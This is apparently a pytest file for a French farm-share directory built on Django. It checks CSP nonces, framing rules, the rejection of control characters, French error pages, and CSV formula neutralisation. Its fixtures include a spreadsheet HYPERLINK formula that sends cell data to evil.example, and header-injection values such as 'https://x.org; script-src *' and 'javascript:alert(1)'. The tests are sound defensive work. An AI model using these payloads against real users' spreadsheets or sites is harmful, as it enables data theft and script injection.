"""Site-wide defences: a CSP on every page, control characters answered with a 400, French error
pages, and CSV cells no spreadsheet runs as a formula."""

import csv
import io
import json
import re

import pytest
from django.core.exceptions import ValidationError
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from directory.csv_export import CsvDictWriter, csv_cell_value, csv_safe_cell, csv_writer
from directory.exporters import export_csv
from tests.factories import BORDEAUX, LIBOURNE, AmapFactory, FarmFactory, NetworkFactory, UserFactory, commune

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+SUM(1,2)", "@cmd", "-1+2"]


@pytest.fixture
def places(db):
    network = NetworkFactory(name="Réseau AMAP Gironde", slug="gironde", departments=[commune("33063").department])
    amap = AmapFactory(name="AMAP des Chartrons", location=BORDEAUX, products=["legumes"])
    amap.networks.add(network)
    farm = FarmFactory(name="Ferme du Coteau", location=LIBOURNE, products=["legumes"])
    return {"network": network, "amap": amap, "farm": farm}


# --- Content-Security-Policy ------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)([^>]*)>", re.IGNORECASE)


def page_urls(places) -> list[str]:
    return [
        reverse("directory:home"),
        reverse("directory:search") + "?q=Bordeaux",
        reverse("directory:amap_detail", args=[places["amap"].pk]),
        reverse("directory:farm_detail", args=[places["farm"].pk]),
        reverse("directory:network_detail", args=["gironde"]),
        reverse("maps:carte"),
        reverse("matching:board"),
        reverse("accounts:login"),
        reverse("accounts:signup"),
        reverse("accounts:password_reset"),
        reverse("accounts:dashboard"),
        reverse("contracts:contract_list"),
        "/admin/",
        "/admin/login/",
        "/api/docs/",
        "/api/redoc/",
        "/page-qui-n-existe-pas/",
    ]


def assert_page_policy(response, *, url):
    policy = response.get("Content-Security-Policy", "")
    script_src = re.search(r"script-src ([^;]*)", policy).group(1)
    assert script_src.startswith("'self'"), url
    assert "unsafe-eval" not in script_src, url
    if not url.startswith("/admin/"):  # the admin's map widget: see config.middleware
        assert "unsafe-inline" not in script_src, url
    assert "object-src 'none'" in policy, url
    # Every inline script of our pages (and Folium's) carries the response's nonce.
    inline = INLINE_SCRIPT.findall(response.content.decode())
    if inline:
        nonce = re.search(r"'nonce-([^']+)'", script_src).group(1)
        for attributes in inline:
            assert f'nonce="{nonce}"' in attributes, (url, attributes)
    return policy


@pytest.mark.parametrize("logged_in", [False, True], ids=["visitor", "staff"])
def test_every_html_page_carries_a_csp_and_forbids_framing(places, logged_in):
    client = Client()
    if logged_in:
        client.force_login(UserFactory(is_staff=True, is_superuser=True))
    for url in page_urls(places):
        response = client.get(url)
        assert response.status_code in (200, 302, 404), url
        if not response["Content-Type"].startswith("text/html"):
            continue
        policy = assert_page_policy(response, url=url)
        assert "frame-ancestors 'none'" in policy, url
        assert response["X-Frame-Options"] == "DENY", url


def test_map_pages_write_folium_scripts_with_the_nonce(places, client):
    for url in [reverse("maps:carte"), reverse("directory:search") + "?q=Bordeaux", reverse("maps:embed")]:
        response = client.get(url)
        assert INLINE_SCRIPT.search(response.content.decode()), url  # the map's own script is inline
        assert "'nonce-" in assert_page_policy(response, url=url)


def test_the_embed_may_be_framed_by_anyone_by_default(places, client):
    response = client.get(reverse("maps:embed"), {"network": "gironde"})
    policy = assert_page_policy(response, url="embed")
    assert "frame-ancestors *" in policy
    assert "X-Frame-Options" not in response


def test_the_embed_may_be_framed_only_by_the_sites_a_network_declares(places, client):
    network = places["network"]
    network.embed_origins = ["https://www.amap-gironde.org", "https://*.gironde.example"]
    network.clean_fields()
    network.save()
    policy = client.get(reverse("maps:embed"), {"network": "gironde"})["Content-Security-Policy"]
    assert "frame-ancestors https://www.amap-gironde.org https://*.gironde.example" in policy
    # The whole directory's map stays framable by anyone.
    assert "frame-ancestors *" in client.get(reverse("maps:embed"))["Content-Security-Policy"]


@pytest.mark.parametrize(
    "origin", ["https://x.org; script-src *", "https://x.org/page", "javascript:alert(1)", "x.org", "'self'"]
)
def test_a_declared_embed_origin_must_be_a_bare_origin(places, origin):
    network = places["network"]
    network.embed_origins = [origin]
    with pytest.raises(ValidationError) as error:
        network.clean_fields()
    assert "embed_origins" in error.value.message_dict
    # Even if one were stored without validation, it never reaches the header.
    assert network.embed_frame_ancestors() == ["*"]


# --- Control characters ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/api/v1/annonces/?produit=%00", "produit"),
        ("/api/v1/amaps/?near=-0.57,%0044.8", "near"),
        ("/carte/territoires.geojson?network=%00", "network"),
        ("/carte/donnees/amaps.geojson?products=%01legumes", "products"),
    ],
)
def test_a_nul_in_a_data_query_is_a_400_naming_the_field(db, client, url, field):
    response = client.get(url)
    assert response.status_code == 400
    body = response.json()
    assert list(body) == [field]
    assert "caractère de contrôle interdit" in body[field][0]


def test_a_nul_in_a_page_query_is_a_french_400_page(db, client):
    response = client.get(reverse("directory:search"), {"q": "Bor\x00deaux"})
    assert response.status_code == 400
    text = response.content.decode()
    assert "Demande incorrecte" in text and "« q »" in text
    assert "Content-Security-Policy" in response


def test_a_nul_in_a_form_field_is_a_400_and_changes_nothing(db, client):
    response = client.post(reverse("accounts:login"), {"username": "a\x00@example.org", "password": "x"})
    assert response.status_code == 400
    assert "« username »" in response.content.decode()
    # Line breaks and tabs are what a textarea sends: they pass.
    response = client.post(reverse("accounts:login"), {"username": "a@example.org", "password": "x\ty\r\nz"})
    assert response.status_code == 200


def test_a_nul_in_a_json_body_is_a_400_naming_the_field(db, client):
    user = UserFactory()
    client.force_login(user)
    body = json.dumps({"kind": "farm_seeks_amap", "title": "Légumes\u0000 bio", "products": ["legumes"]})
    response = client.post("/api/v1/annonces/", body, content_type="application/json")
    assert response.status_code == 400
    assert list(response.json()) == ["title"]


def test_a_nul_in_an_auth_header_is_a_400_not_a_crash(db, client):
    response = client.get("/api/v1/amaps/", HTTP_AUTHORIZATION="Basic YQBiOmM=\x00")
    assert response.status_code == 400
    assert list(response.json()) == ["Authorization"]
    response = client.get("/api/v1/amaps/", HTTP_COOKIE="sessionid=abc\x00def")
    assert response.status_code == 400


# --- Error pages ----------------------------------------------------------------------------


def test_a_referent_on_a_forbidden_page_gets_the_french_403(db, client):
    from tests.contracts.roles import contract_world

    world = contract_world()
    client.force_login(world.users["other_referent"])
    response = client.get(reverse("contracts:contract_edit", args=[world.contract.pk]))
    assert response.status_code == 403
    text = response.content.decode()
    assert "Accès refusé" in text
    assert "Forbidden" not in text
    assert 'class="site-header"' in text  # the site's look


def test_the_404_page_is_french_and_in_the_site_look(db, client):
    response = client.get("/nulle-part/")
    assert response.status_code == 404
    assert "Page introuvable" in response.content.decode()
    assert 'class="site-header"' in response.content.decode()


def test_the_500_page_renders_without_a_request():
    html = render_to_string("500.html")
    assert "Une erreur est survenue" in html
    assert 'class="site-header"' in html


# --- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS, "\tx", "\rx"])
def test_text_that_looks_like_a_formula_is_quoted_and_reads_back(text):
    cell = csv_safe_cell(text)
    assert cell == "'" + text
    assert csv_cell_value(cell) == text


@pytest.mark.parametrize("value", [-0.57, -12, 44.8378, 0])
def test_numbers_are_never_prefixed(value):
    out = io.StringIO()
    csv_writer(out).writerow([value, "AMAP"])
    assert out.getvalue().startswith(repr(value) + ",")


def test_dict_writer_neutralises_too():
    out = io.StringIO()
    writer = CsvDictWriter(out, fieldnames=["nom", "longitude"])
    writer.writeheader()
    writer.writerow({"nom": "=1+1", "longitude": -0.57})
    assert out.getvalue().splitlines()[1] == "'=1+1,-0.57"


def test_map_csv_neutralises_formula_names_but_keeps_negative_longitudes(db, client):
    for name in FORMULAS:
        AmapFactory(name=name, location=BORDEAUX)
    response = client.get(reverse("maps:csv", args=["amaps"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row["nom"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert [float(row["longitude"]) for row in rows] == pytest.approx([BORDEAUX.x] * len(FORMULAS))
    assert all(row["longitude"].startswith("-") for row in rows)


def test_directory_csv_neutralises_formulas_and_the_importer_reads_them_back(db, tmp_path):
    from django.core.management import call_command

    from directory.models import Amap

    for n, name in enumerate(FORMULAS):
        AmapFactory(name=name, location=BORDEAUX, external_id=f"f{n}", source="formules")
    out = io.StringIO()
    export_csv(out=out, kind="amap", source="formules")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert sorted(row["nom"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert all(row["lon"].startswith("-0.57") for row in rows)  # a number, not a quoted text

    path = tmp_path / "amaps.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    before = sorted(Amap.objects.values_list("external_id", "name", "updated_at"))
    call_command(
        "import_directory", str(path), "--kind", "amap", "--source", "formules", "--commit", stdout=io.StringIO()
    )
    assert sorted(Amap.objects.values_list("external_id", "name", "updated_at")) == before


def test_coverage_csv_neutralises_commune_and_network_cells():
    from coverage.exports import csv_writer as coverage_writer

    assert coverage_writer is csv_writer
